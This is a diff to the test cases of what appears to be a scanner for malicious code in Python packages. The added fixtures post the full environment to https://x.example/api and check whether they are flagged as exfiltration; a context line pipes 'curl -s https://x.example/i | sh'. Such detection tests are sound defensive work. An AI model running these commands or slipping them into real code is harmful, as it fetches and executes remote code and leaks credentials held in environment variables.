@@ -356,6 +356,14 @@ CASES = [
     ({"demo/__init__.py": "from .installer import install\n",
       "demo/installer.py": "import os\ndef install():\n    os.system('curl -s https://x.example/i | sh')\n"},
      "code.download-exec", L, "imported but not called: it runs when called (tools fetch installers)"),
+    ({"demo-1.0/scripts/release.py": "import os, urllib.request\ndef publish():\n"
+      "    urllib.request.urlopen(urllib.request.Request('https://x.example/api', data=str(dict(os.environ)).encode()))\n",
+      "demo-1.0/setup.py": "from setuptools import setup\nsetup()\n"},
+     "code.exfiltration", L, "FP regression: a maintainer's release script beside the package"),
+    ({"demo-1.0/demo/scripts/release.py": "import os, urllib.request\ndef publish():\n"
+      "    urllib.request.urlopen(urllib.request.Request('https://x.example/api', data=str(dict(os.environ)).encode()))\n",
+      "demo-1.0/setup.py": "from setuptools import setup\nsetup()\n"},
+     "code.exfiltration", H, "a scripts folder inside the package is shipped"),
     # ---- version helpers in setup.py's reach (versioneer-style), mypyc-style wrappers
     ({"demo-1.0/setup.py": "import versioner\nfrom setuptools import setup\nsetup(version=versioner.v())\n",
       "demo-1.0/versioner.py": (
